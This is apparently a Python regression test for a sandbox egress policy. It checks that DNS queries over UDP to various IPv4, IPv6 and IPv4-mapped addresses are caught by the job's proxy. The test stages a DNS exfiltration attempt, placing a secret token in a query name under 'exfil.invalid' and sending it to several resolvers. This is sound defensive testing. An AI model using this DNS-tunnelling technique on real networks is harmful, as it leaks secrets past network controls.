"""DNS over UDP to arbitrary addresses (no server there, the world's dnsmasq, IPv6, IPv4-mapped, connected socket) asking a name that carries the token: everything goes to the job's proxy, and an unlisted name never leaves (regression)."""
from vlib import *  # noqa: F401,F403

POLICY = {"allow": ["ok.test:443"]}
AS = ("nobody", "root")
SINKS_OK = []
RECORD = [("egress.dns", {"egress.reason": "dns_unlisted"})]


def connected(server, q):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((server, 53))
    s.send(q)
    return len(s.recv(4096))


def job(token, args):
    name = "%s.exfil.invalid" % token
    q = dns_query_bytes(name)
    for server in ("198.18.1.9", DNS_V4, D4, DNS_V6, D6, "::ffff:198.18.1.9"):
        attempt("udp @%s" % server, lambda: len(dns_udp(server, q)))
    attempt("connected udp @198.18.1.9", connected, "198.18.1.9", q)
    attempt("connected udp @%s" % D6, connected, D6, q)


if __name__ == "__main__":
    main(globals())
